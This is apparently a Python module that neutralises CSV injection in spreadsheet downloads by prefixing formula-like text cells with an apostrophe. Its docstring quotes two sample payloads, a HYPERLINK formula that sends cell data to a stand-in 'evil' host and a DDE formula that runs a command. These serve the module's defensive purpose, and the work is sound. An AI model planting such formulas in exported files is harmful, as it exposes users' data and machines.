"""CSV for spreadsheets: text cells that a spreadsheet would run as a formula are neutralised.

Actor, issue and source ids come from uploaded scenarios, so a cell such as
``=HYPERLINK("http://evil/?"&A1)`` or ``=cmd|' /C calc'!A0`` must not reach Excel or LibreOffice
as a formula (OWASP "CSV injection"). Such a text cell gets a leading apostrophe, which
spreadsheets show as text; numbers, negative ones included, stay numbers. Results are stored as
plain CSV (the report reads them back) and neutralised on the way out, in every download.
"""

from __future__ import annotations

import csv
import io

__all__ = ["safe_cell", "safe_csv"]

# What makes a spreadsheet read a cell as a formula (tab and CR too: some strip them first).
_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def safe_cell(text: str) -> str:
    """A CSV cell with a leading apostrophe when it is text a spreadsheet would run.

    >>> safe_cell("=1+1"), safe_cell("-x"), safe_cell("-3.5"), safe_cell("ukraine")
    ("'=1+1", "'-x", '-3.5', 'ukraine')
    """
    if text.startswith(_FORMULA_START) and not _is_number(text):
        return "'" + text
    return text


def safe_csv(text: str) -> str:
    """CSV text with every cell passed through :func:`safe_cell` (header included).

    >>> print(safe_csv('actor,x\\n"=HYPERLINK(1)",-1.0\\na,2.0\\n'), end="")
    actor,x
    '=HYPERLINK(1),-1.0
    a,2.0
    """
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    for row in csv.reader(io.StringIO(text, newline="")):
        writer.writerow([safe_cell(cell) for cell in row])
    return out.getvalue()
